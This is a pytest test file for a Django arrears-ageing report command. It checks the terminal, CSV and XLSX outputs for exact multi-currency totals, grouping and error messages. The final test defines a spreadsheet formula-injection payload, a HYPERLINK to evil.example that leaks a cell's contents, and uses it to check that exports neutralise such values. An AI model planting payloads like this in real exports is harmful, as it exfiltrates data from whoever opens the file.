"""`arrears ageing`: the terminal table, CSV and XLSX agree with the ledger to the cent."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management.base import CommandError
from openpyxl import load_workbook

from tests import factories, terminal

pytestmark = pytest.mark.django_db

AS_OF = date(2026, 3, 31)


def ago(days: int) -> date:
    return AS_OF - timedelta(days=days)


@pytest.fixture
def acme():
    """Two collectors' portfolios in EUR, a JPY item, a credit note; and a second company."""
    c = factories.company("acme")
    cora, olaf = factories.collector("cora"), factories.collector("olaf")
    brick = factories.debtor(c, code="BRICK", name="Brick AG", owner=cora)
    factories.item(brick, due=ago(0), amount=1234_50)
    factories.item(brick, due=ago(45), amount=100_01)
    factories.item(brick, due=ago(10), amount=34_50, kind="credit_note")
    mortar = factories.debtor(c, code="MORTAR", name="Mortar SA", owner=olaf)
    factories.item(mortar, due=ago(400), amount=5000_00)
    factories.item(mortar, due=ago(31), amount=1500, currency="JPY")
    rival = factories.company("rival")
    factories.item(factories.debtor(rival, code="BRICK"), due=ago(5), amount=777_77)
    return c


def ageing(*args: str) -> str:
    out = StringIO()
    terminal.run("ageing", "--company", "acme", "--as-of", AS_OF.isoformat(), *args, stdout=out)
    return out.getvalue()


def test_terminal_table_shows_each_debtor_and_the_netted_total_per_currency(acme):
    text = ageing()
    brick = next(line for line in text.splitlines() if line.startswith("BRICK"))
    assert brick.split() == [
        "BRICK",
        "Brick",
        "AG",
        "EUR",
        "1,234.50",
        "0.00",
        "100.01",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
        "-34.50",
        "1,300.01",
    ]
    totals = [line.split() for line in text.splitlines() if line.startswith("Total")]
    assert [(t[1], t[-1]) for t in totals] == [("EUR", "6,300.01"), ("JPY", "1,500")]
    assert "777.77" not in text  # the other company's ledger stays out


def test_csv_round_trips_exact_amounts_in_each_currencys_decimals(acme, tmp_path):
    path = tmp_path / "ageing.csv"
    ageing("--csv", str(path), "--buckets", "0,30,60")
    rows = list(csv.DictReader(line for line in path.open() if not line.startswith("#")))
    assert list(rows[0]) == [
        "debtor",
        "name",
        "currency",
        "not due",
        "1-30",
        "31-60",
        "over 60",
        "credits",
        "total",
    ]
    got = {(r["debtor"], r["currency"]): r for r in rows}
    brick = got[("BRICK", "EUR")]
    assert (brick["not due"], brick["31-60"], brick["credits"], brick["total"]) == (
        "1234.50",
        "100.01",
        "-34.50",
        "1300.01",
    )
    assert got[("MORTAR", "JPY")]["31-60"] == "1500"
    eur = [r for r in rows if r["currency"] == "EUR"]
    assert sum(Decimal(r["total"]) for r in eur) == Decimal("6300.01")


def test_csv_has_a_header_block_with_company_date_and_totals_and_data_rows_alone(acme, tmp_path):
    path = tmp_path / "ageing.csv"
    ageing("--csv", str(path), "--buckets", "0,30,60")
    lines = list(csv.reader(path.open()))
    block = [row for row in lines if row[0].startswith("#")]
    table = [row for row in lines if not row[0].startswith("#")]
    assert block[:5] == [
        ["# report", "ageing"],
        ["# company", "acme", "Acme GmbH"],
        ["# as of", "2026-03-31"],
        ["# by", "debtor"],
        ["# amounts in", "each row's own currency"],
    ]
    assert [(r[0], r[2], r[-1]) for r in block[5:]] == [
        ("# Total", "EUR", "6300.01"),
        ("# Total", "JPY", "1500"),
    ]
    assert lines.index(table[0]) == len(block)  # the block comes first, then the table
    assert sorted((r[0], r[2]) for r in table[1:]) == [
        ("BRICK", "EUR"),
        ("MORTAR", "EUR"),
        ("MORTAR", "JPY"),
    ]


def test_xlsx_keeps_totals_and_what_the_report_is_on_sheets_of_their_own(acme, tmp_path):
    path = tmp_path / "ageing.xlsx"
    ageing("--xlsx", str(path))
    book = load_workbook(path)
    assert book.sheetnames == ["ageing", "totals", "report"]
    data = book["ageing"]
    assert sorted(r[0].value for r in data.iter_rows(min_row=2)) == ["BRICK", "MORTAR", "MORTAR"]
    assert data.auto_filter.ref == f"A1:{data.cell(1, data.max_column).column_letter}4"
    widths = {c: data.column_dimensions[c].width for c in "ABC"}
    assert widths["A"] >= len("MORTAR") and widths["B"] >= len("Mortar SA")
    assert data.column_dimensions["D"].width >= len("1,234.50")
    totals = book["totals"]
    assert [(r[0].value, r[2].value) for r in totals.iter_rows(min_row=2)] == [
        ("Total", "EUR"),
        ("Total", "JPY"),
    ]
    about = {r[0].value: [c.value for c in r[1:] if c.value] for r in book["report"].iter_rows()}
    assert about["company"] == ["acme", "Acme GmbH"] and about["as of"] == ["2026-03-31"]


def test_xlsx_opens_with_openpyxl_with_a_bold_frozen_header_and_the_same_figures(acme, tmp_path):
    path = tmp_path / "ageing.xlsx"
    ageing("--xlsx", str(path))
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    header = [cell.value for cell in sheet[1]]
    rows = {(r[0].value, r[2].value): r for r in sheet.iter_rows(min_row=2)}
    brick = {h: cell for h, cell in zip(header, rows[("BRICK", "EUR")], strict=True)}
    assert Decimal(str(brick["total"].value)) == Decimal("1300.01")
    assert Decimal(str(brick["credits"].value)) == Decimal("-34.50")
    assert brick["total"].number_format == "#,##0.00"
    jpy = {h: cell for h, cell in zip(header, rows[("MORTAR", "JPY")], strict=True)}
    assert (jpy["31-60"].value, jpy["31-60"].number_format) == (1500, "#,##0")
    assert ("Total", "EUR") not in rows  # totals have a sheet of their own


def test_grouping_by_owner_totals_each_collectors_portfolio(acme):
    factories.item(factories.debtor(acme, code="LOOSE"), due=ago(3), amount=1_00)
    lines = ageing("--by", "owner").splitlines()

    def total_of(start: str) -> str:
        return next(line.split()[-1] for line in lines if line.startswith(start))

    assert [total_of(o) for o in ("cora", "olaf", "(no owner)", "Total")] == [
        "1,300.01",
        "5,000.00",
        "1.00",
        "6,301.01",
    ]


def test_report_in_company_currency_converts_every_item(acme):
    from arrears.apps.ledger.services import exchange_rate_set

    exchange_rate_set(company=acme, currency="JPY", rate=Decimal("0.006123"), valid_from=AS_OF)
    text = ageing("--by", "currency", "--in-company-currency")
    assert "in EUR" in text.splitlines()[0]
    total = next(line.split() for line in text.splitlines() if line.startswith("Total"))
    assert total[-1] == "6,309.19"  # 6,300.01 + 1,500 JPY x 0.006123 = 9.1845 -> 9.18


def test_top_shows_the_largest_debtor_and_sums_the_rest(acme):
    text = ageing("--top", "1")
    assert "MORTAR" in text and "BRICK" not in text
    others = next(line.split() for line in text.splitlines() if line.startswith("Others"))
    assert others[-1] == "1,300.01"


def test_company_must_be_named_when_there_are_several(acme):
    with pytest.raises(CommandError, match="several companies"):
        terminal.run("ageing", stdout=StringIO())


def test_unknown_company_is_refused(acme):
    with pytest.raises(CommandError, match="unknown company 'nope'"):
        terminal.run("ageing", "--company", "nope", stdout=StringIO())


def test_bad_bucket_spec_is_refused_with_the_reason(acme):
    with pytest.raises(CommandError, match="must ascend: 30 comes after 60"):
        ageing("--buckets", "0,60,30")


def test_missing_exchange_rate_is_a_clear_error(acme):
    with pytest.raises(
        CommandError, match="no exchange rate into EUR for JPY valid on 2026-03-31"
    ) as e:
        ageing("--in-company-currency")
    assert "arrears import rates FILE" in str(e.value)


def test_csv_and_xlsx_neutralise_a_debtor_name_that_is_a_formula(acme, tmp_path):
    phish = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    factories.item(factories.debtor(acme, code="+EVIL", name=phish), due=ago(5), amount=10_00)
    ageing("--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "a.xlsx"))
    text = (tmp_path / "a.csv").open()
    rows = list(csv.DictReader(line for line in text if not line.startswith("#")))
    evil = next(r for r in rows if r["debtor"] == "'+EVIL")
    assert (evil["name"], evil["total"]) == ("'" + phish, "10.00")
    cells = [
        (c.value, c.data_type)
        for row in load_workbook(tmp_path / "a.xlsx")["ageing"].iter_rows(min_row=2)
        for c in row[:2]
        if row[0].value == "'+EVIL"
    ]
    assert cells == [("'+EVIL", "s"), ("'" + phish, "s")]
    assert "=HYPERLINK" in ageing()  # the terminal shows the name as it is
